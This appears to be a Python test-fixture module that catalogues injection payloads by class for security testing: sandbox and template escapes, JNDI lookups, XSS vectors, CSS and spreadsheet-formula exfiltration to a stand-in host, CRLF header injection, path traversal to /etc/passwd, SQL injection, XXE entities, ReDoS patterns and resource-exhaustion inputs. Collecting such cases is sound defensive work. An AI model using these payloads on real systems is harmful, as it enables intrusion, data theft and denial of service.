"""The classes of attack that a text can carry, each with examples. What a file carries is in `files`.

``{mark}`` is a path: were the text run anywhere, that file would be there afterwards.
"""

#: A number that the attack would work out, were it run.
PROOF = "1787569"  # 1337 * 1337

PYTHON = (
    "__import__('os').system('touch {mark}')",
    "open('{mark}', 'w').write('x')",
    "().__class__.__base__.__subclasses__()",
    "exec(\"open('{mark}','w')\")",
    "[x for x in [open('{mark}','w')]]",
    "{0.__class__.__init__.__globals__}",
    "%(__class__)s",
    "{config}",
)
JAVASCRIPT = (
    "this.constructor.constructor('return process')()",
    "globalThis.process",
    '(function(a) a).constructor("return 1")()',
    'import("fs")',
    "[].map.constructor('return 1337*1337')()",
)
PROTOTYPE = (
    "__proto__",
    '{"__proto__": {"kotor": 1}}',
    "constructor.prototype.kotor",
    'context put({}, ["__proto__", "kotor"], 1)',
)
ENGINES = (
    "${execution.setVariable('x', 1)}",
    "#{runtime.exec('touch {mark}')}",
    "${T(java.lang.Runtime).getRuntime().exec('touch {mark}')}",
    "${jndi:ldap://127.0.0.1:9/x}",
)
TEMPLATES = (
    "{{ 1337 * 1337 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "<%= 1337 * 1337 %>",
    "{{#loop this}}{{constructor}}{{/loop}}",
    "{{cycler.__init__.__globals__.os.popen('touch {mark}')}}",
)
HTML = (
    "<script>alert(1)</script>",
    "</title></textarea></script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<base href=//contoh.id><form action=//contoh.id><input name=csrf_token>",
    "<meta http-equiv=refresh content='0;url=//contoh.id'>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
CSS = (
    "</style><script>alert(1)</script>",
    "<p style='background:url(//contoh.id/x)'>x</p>",
    "red; background: url(javascript:alert(1))",
    "@import '//contoh.id/x.css';",
    "x{} input[value^='a']{background:url(//contoh.id/a)}",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "vbscript:msgbox(1)",
    "//contoh.id/x",
    "file:///etc/passwd",
    "http://127.0.0.1:9/",
    'https://contoh.id@127.0.0.1:9/"onclick=alert(1)',
    "[x](javascript:alert(1)) ![x](//contoh.id/x.png) <javascript:alert(1)>",
    "http://[::1",
)
HEADERS = (
    "x\r\nSet-Cookie: jahat=1",
    "x\r\n\r\n<script>alert(1)</script>",
    "x\nBcc: jahat@contoh.id",
    "x\u2028Set-Cookie: jahat=1",
    "x%0d%0aSet-Cookie:%20jahat=1",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "a/../../{mark}",
    "x\0.txt",
    "CON",
    "~root",
)
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE process_instance; --",
    "1) UNION SELECT password_hash FROM users --",
    "%' ESCAPE '\\",
    '" NEAR/0 *',
    "a AND (b OR",
    "_%_%_%_%",
)
LOGS = (
    "x\n2026-11-24 10:00:00 INFO admin signed in",
    "x\r\nERROR palsu",
    "\x1b[2J\x1b[1;31mpalsu\x1b[0m",
    "x\x08\x08\x08y\x7f",
    "x\u0085palsu",
)
UNICODE = (
    "\u202egpj.exe",
    "\u2066x\u2069\u2067",
    "a\u200b\u200d\ufeffb",
    "Z" + "\u0351\u0347" * 60,
    "\U000e0041\U000e0042",
    "\ufdfa" * 20,
    "ﬁﬀ²٣Ⅷ½İıſK",
    "а\u0430dmin",
    "\ud800",
    "\udfff\ud83d",
    "\x00",
    "\ufffe\uffff",
)
NUMBERS = (
    "1e999",
    "-1e999",
    "NaN",
    "Infinity",
    "-0",
    "9" * 400,
    "0." + "0" * 300 + "1",
    "1" + "0" * 20 + " ** 9999999",
    "0x7fffffffffffffff",
    "1_000",
    "٣٤",
)
NESTING = (
    "(" * 1_500 + "1" + ")" * 1_500,
    "[" * 900 + "]" * 900,
    "{a:" * 400 + "1" + "}" * 400,
    "if true then " * 200 + "1" + " else 2" * 200,
    "-" * 1_500 + "1",
    ">" * 1_500,
    "{{#if a}}" * 150 + "x" + "{{/if}}" * 150,
)
PATTERNS = (
    "(a+)+$",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(x+x+)+y",
    "(a|aa)+$",
    "(?:a?){60}a{60}$",
    "([a-zA-Z]+)*$",
    "(?=(a+))\\1*$",
    "a{1,99999}{1,99999}",
    "[",
    "(?<a>",
    "\\",
)
RUNAWAYS = (
    "for i in 1..100000000 return i",
    "for a in 1..9999 return for b in 1..9999 return a * b",
    "{w: function(g) g(g), x: w(w)}",
    'matches("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", "^(a+)+$")',
    'for i in 1..40 return if count(partial) = 0 then "x" else partial[-1] + partial[-1]',
    'string join(for i in 1..3000000 return "xxxxxxxxxx")',
    "sort(for i in 1..300000 return 300000 - i, function(a, b) a < b)",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://contoh.id?x="&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)
ENTITIES = (
    "&xxe;",
    "&#0;",
    "&lol9;",
    "<!DOCTYPE x>",
    "]]><a/>",
    "<![CDATA[x",
    "%file;",
    "<xi:include href='/etc/passwd'/>",
)

CLASSES = {
    "python": PYTHON,
    "javascript": JAVASCRIPT,
    "prototype": PROTOTYPE,
    "engine expressions": ENGINES,
    "templates": TEMPLATES,
    "html": HTML,
    "css": CSS,
    "addresses": ADDRESSES,
    "headers": HEADERS,
    "paths": PATHS,
    "sql": SQL,
    "logs": LOGS,
    "unicode": UNICODE,
    "numbers": NUMBERS,
    "nesting": NESTING,
    "patterns": PATTERNS,
    "runaways": RUNAWAYS,
    "spreadsheet formulas": FORMULAS,
    "entities": ENTITIES,
}
EVERY_TEXT = tuple(text for texts in CLASSES.values() for text in texts)
